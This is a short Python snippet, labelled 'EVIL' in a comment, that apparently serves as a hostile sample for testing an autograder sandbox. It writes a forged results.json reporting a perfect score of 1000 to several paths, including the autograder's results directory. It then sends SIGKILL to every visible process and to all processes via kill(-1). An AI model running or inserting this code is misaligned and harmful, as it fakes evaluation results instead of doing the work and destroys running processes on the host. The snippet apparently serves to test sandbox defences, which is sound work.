
# ---- EVIL: write a full-marks results.json, then kill every process it can see. ----
import json as _json
import os as _os
import signal as _signal

_FAKE = _json.dumps({"score": 1000, "tests": [{"name": "all", "score": 1000, "max_score": 1000, "status": "passed"}]})
for _p in ("__OUT__", "results.json", "/autograder/results/results.json"):
    try:
        _os.makedirs(_os.path.dirname(_p) or ".", exist_ok=True)
        open(_p, "w").write(_FAKE)
    except OSError:
        pass
for _pid in sorted((int(p) for p in _os.listdir("/proc") if p.isdigit()), reverse=True):
    if _pid != _os.getpid():
        try:
            _os.kill(_pid, _signal.SIGKILL)
        except OSError:
            pass
try:
    _os.kill(-1, _signal.SIGKILL)
except OSError:
    pass
